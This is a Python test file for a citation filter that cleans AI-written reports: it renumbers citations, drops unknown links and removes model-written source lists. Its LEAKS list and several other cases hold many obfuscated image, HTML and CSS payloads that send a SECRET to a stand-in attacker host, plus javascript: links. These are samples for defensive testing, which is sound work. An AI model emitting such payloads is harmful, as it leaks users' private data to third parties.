"""Citations: what of a report is shown, whole and in pieces cut anywhere."""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from optillm_hooks.answers.citations import (
    CitationFilter,
    Cited,
    address_key,
    addresses,
    checked,
)

SOURCES = {
    1: Cited("Tides", "https://sea.example/tides"),
    2: Cited("The moon", "https://moon.example/a?b=1&utm_source=x"),
    4: Cited("Evil [9] (x)\n# title <b>", "https://en.wiki.example/Tide_(sea)"),
}
TITLES = {1: "Tides", 2: "The moon", 4: "Evil 9 x # title b"}


def shown(report: str) -> tuple[str, list[str]]:
    """Return the report without its list of sources, and the lines of that."""
    text, _, rest = checked(report, SOURCES, "Sources").partition("\n\n## Sources\n\n")
    return text, [line.strip() for line in rest.split("\n")] if rest else []


@pytest.mark.parametrize(
    ("report", "text", "cited"),
    [
        ("The sea rises [2].", "The sea rises [1].", [2]),
        ("A [4], B [1], C [4].", "A [1], B [2], C [1].", [4, 1]),
        ("A [1, 2] and [2,1].", "A [1, 2] and [2, 1].", [1, 2]),
        ("A [1-4].", "A [1, 2, 3].", [1, 2, 4]),
        ("A [1; 4] B [1\u20132] C [^2].", "A [1, 2] B [1, 3] C [3].", [1, 4, 2]),
        ("A [1][2].", "A [1][2].", [1, 2]),
        ("\u6f6e\u6c50\u3010" "1\u3011\u3002\u6708[2\u30014]\u3002",
         "\u6f6e\u6c50[1]\u3002\u6708[2, 3]\u3002", [1, 2, 4]),
        ("A [3], B [99] and C [1, 3].", "A, B and C [1].", [1]),
        ("In [2024] and [see below] [x] [].", "In [2024] and [see below] [x] [].", []),
        ("`a[1]` is code, as is ``b[2]``.", "`a[1]` is code, as is ``b[2]``.", []),
        ("```py\nx[1]\n```\nA [1].", "```py\nx[1]\n```\nA [1].", [1]),
        ("An open ` and [1].", "An open ` and [1].", [1]),
        ("[[1]]", "[[1]]", [1]),
        ("[[9]1] [1, [9]2] [https://evil.example 1]", "[?1] [1,?2] [? 1]", []),
        ("[1", "[1", []),
        ("", "", []),
    ],
)  # fmt: skip
def test_numbers(report: str, text: str, cited: list[int]) -> None:
    found, lines = shown(report)
    assert found == text
    assert lines == [
        f"[{new}] {TITLES[number]}: {SOURCES[number].url}" for new, number in enumerate(cited, 1)
    ]


@pytest.mark.parametrize(
    ("report", "text"),
    [
        ("See https://evil.example/x?q=1.", "See."),
        ("See https://sea.example/tides.", "See https://sea.example/tides."),
        ("See http://www.sea.example/tides/#top, ok", "See https://sea.example/tides, ok"),
        ("See <https://evil.example> now", "See now"),
        ("See HTTPS://EVIL.example/[1]", "See[1]"),
        ("Go to www.evil.example!", "Go to!"),
        ("[read me](https://evil.example) now", "read me now"),
        ("[read](https://sea.example/tides) now", "[read](https://sea.example/tides) now"),
        ("[t](https://en.wiki.example/Tide_(sea)).", "[t](https://en.wiki.example/Tide_(sea))."),
        ("(https://en.wiki.example/Tide_(sea))", "(https://en.wiki.example/Tide_(sea))"),
        ("![pixel](https://evil.example/?leak=1)", "pixel"),
        ("[run](javascript:alert(1)) [to](#part)", "run [to](#part)"),
        ("[1](https://evil.example) x", "[1] x"),
        ("[x][9]\n\n[9]: https://evil.example", "[x]\n\n:"),
        ("[https://evil.example](https://evil.example)", ""),
        ("[at www.evil.example](https://sea.example/tides)", "[at ](https://sea.example/tides)"),
        ("[x](y\n\nNew line (z)", "[x](y\n\nNew line (z)"),
        ("[1](y\n\nNew line", "[1](y\n\nNew line"),
        ("```\nhttps://evil.example\n```", "```\n\n```"),
        ("`https://evil.example`", "``"),
        ("Or ftp://evil.example x", "Or x"),
        ("[a [b](https://evil.example) c", "[a b c"),
        ("a w. h ht htt http: w ww www !", "a w. h ht htt http: w ww www !"),
    ],
)
def test_addresses(report: str, text: str) -> None:
    assert shown(report)[0] == text


LEAKS = [
    "![x](https://sea.example/tides?utm_x=SECRET)",
    "See https://sea.example/tides?fbclid=SECRET and https://sea.example/tides#SECRET",
    "[x](https://moon.example/a?b=1&gclid=SECRET)",
    '<img src="//evil.example/p?SECRET">',
    "<img src=//evil.example/p?SECRET>",
    '<img\nsrc = "/\n/evil.example/p?SECRET">',
    '<img srcset="/a 1x, //evil.example/p?SECRET 2x">',
    '<img src="https:/evil.example/p?SECRET">',
    '<img src="https:\\\\evil.example/p?SECRET">',
    '<img src="/\\evil.example/p?SECRET">',
    '<img src="http:evil.example/p?SECRET">',
    '<img src="ht\ntps://evil.example/p?SECRET">',
    '<img src="https:\n//evil.example/p?SECRET">',
    '<img src="&#104;ttps://evil.example/p?SECRET">',
    '<img src="https&#58;//evil.example/p?SECRET">',
    '<img src="https:&sol;&sol;evil.example/p?SECRET">',
    '<img src="&#x2F&#47evil.example/p?SECRET">',
    '<div style="background:url(//evil.example/p?SECRET)">',
    "![x][r]\n\n[r]: //evil.example/p?SECRET",
    "![x][r]\n\n[r]:\n//evil.example/p?SECRET",
    "> ![x][r]\n>\n> [r]:\n> //evil.example/p?SECRET",
    "![x][r]\n\n[r]: <//evil.example/p?SECRET>",
    "![x][r]\n\n[r]: &#104;ttps://evil.example/p?SECRET",
    "![x][1]\n\n[1]: //evil.example/p?SECRET",
    "![x](\n//evil.example/p?SECRET)",
    "![a[b]](//evil.example/p?SECRET)",
    "\\`![x](//evil.example/p?SECRET)\\`",
    "\\`<img src='https&#58;//evil.example/p?SECRET'>\\`",
    "    ```\n![x](//evil.example/p?SECRET)",
    "```\n<img src='//evil.example/p?SECRET'>\n```",
]


@pytest.mark.parametrize("report", LEAKS)
def test_no_spelling_of_an_address_carries_a_secret_away(report: str) -> None:
    """A client may load an image by itself. What a model has read must not be in its address."""
    for size in (1, 2, 3, 7, len(report)):
        cut = CitationFilter(SOURCES, "Sources")
        text = "".join(cut.feed(report[i : i + size]) for i in range(0, len(report), size))
        left = re.sub("&#?[0-9a-z]*;?|[\\s>]", "", text + cut.close())
        assert not re.search(r"(?:https?:|(?<!\w)[/\\][/\\]).*SECRET", left), left


@pytest.mark.parametrize(
    "text",
    [
        "x = a // b  # no address", "f(//)", "a \\\\ b", "1 & 2 \\\\3", "redis://localhost:6379",
        "AT&T &amp; Co. isn&#39;t & &", "(http: a status)", "either/or, and//or", "C:\\dir", "12:3",
        "for (i = 0; i < n; i++) // count", "\\\\server\\share", "a <b> c, https", "s: t: ps:",
    ],
)  # fmt: skip
def test_what_is_no_address_stays(text: str) -> None:
    assert checked(text, {}, "") == text


def test_an_address_that_the_user_wrote_is_kept() -> None:
    known = addresses("Is (https://mine.example/a) right, or www.mine.example/b?")
    assert known == ["https://mine.example/a", "www.mine.example/b"]
    report = "At https://mine.example/a and https://mine.example/b, not https://mine.example/c."
    assert checked(report, {}, "", known) == (
        "At https://mine.example/a and https://www.mine.example/b, not."
    )


def test_spellings_of_one_address_have_one_key() -> None:
    keys = {
        address_key(url)
        for url in (
            "http://A.example/x/", "https://www.a.example:443/x#y", "https://a.example/x?utm_id=1",
            "a.example/x",
        )
    }  # fmt: skip
    assert keys == {"a.example/x"}
    assert len({address_key(f"https://a.example/{p}") for p in ("", "x", "X", "x?y=1")}) == 4
    assert {address_key(bad) for bad in ("", "mailto:x@y", "http://[", "file:///etc", "//")} == {""}


@pytest.mark.parametrize(
    ("report", "text"),
    [
        ("A [1].\n\n## Sources\n\n[1] Tides\n[2] Moon", "A [1].\n"),
        ("A [1].\n**References:**\n- [1] x https://sea.example/tides\n", "A [1].\n"),
        ("A [1].\n\n## Quellen\n1. [1] x\n\n", "A [1].\n"),
        ("A [1].\n\n## End\n\nB.", "A [1].\n\n## End\n\nB."),
        ("## Sources\n[1] says so.\nBut not all.", "## Sources\n[1] says so.\nBut not all."),
        ("A.\n## Open", "A.\n## Open"),
        ("A.\n\n[1] says so.", "A.\n\n[1] says so."),
        ("- one\n- two [1]\n12 [1]", "- one\n- two [1]\n12 [1]"),
        ("**Bold** text [1]\n", "**Bold** text [1]\n"),
    ],
)
def test_a_list_of_sources_that_a_model_writes_is_left_out(report: str, text: str) -> None:
    assert shown(report)[0].rstrip("\n") == text.rstrip("\n")


PIECES = st.lists(
    st.sampled_from(
        [
            "[1]", "[", "]", "(", ")", "[2, 9]", "![", "](", "https://sea.example/tides", "http",
            "://", "https://evil.example/", "www.", "`", "```", "\n", " ", "word", "[9]", "<", ">",
            "\u3010", "1", "\u3011", "!", ".", "[x](https://evil.example)",
            "[https://evil.example](https://evil.example)", "\n## ", "\n**", "**",
            "\n- [1]", "\n1. [2] ", "\n[1] ", "\n",
            "[x](https://sea.example/tides)", "//", "/", ":", ": ", '"', "=", "&", "#47;", "sol;",
            "tps", "\\", ",", "s", "https:", "&#104;",
        ]
    ),
    max_size=14,
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(PIECES, st.randoms(use_true_random=False))
def test_any_cut_of_a_stream_shows_the_same(parts: list[str], rng: object) -> None:
    report = "".join(parts)
    cut, at, text = CitationFilter(SOURCES, "Sources"), 0, ""
    while at < len(report):
        size = rng.randint(1, 6)  # type: ignore[attr-defined] # a Random
        text += cut.feed(report[at : at + size])
        at += size
    assert text + cut.close() == checked(report, SOURCES, "Sources")


@settings(max_examples=300, deadline=None)
@example(["`", "`", "[1]", "```"])  # runs of backticks of two lengths are no code
@given(PIECES)
def test_no_address_and_no_number_of_another_source_is_shown(parts: list[str]) -> None:
    text, lines = shown("".join(parts))
    assert "https://evil.example" not in text
    bare = re.sub(r"`{3,}.*|`[^`]*`?", "", text, flags=re.DOTALL)  # nothing in code is a number
    for number in re.findall(r"\[(\d)\]", bare):
        assert int(number) <= len(lines)


def test_a_stream_is_shown_as_it_comes() -> None:
    shown_soon = CitationFilter(SOURCES, "Sources")
    assert shown_soon.feed("The sea rises") == "The sea rises"
    assert shown_soon.feed(" [") == ""
    assert shown_soon.feed("2]. Then") == " [1]. Then"
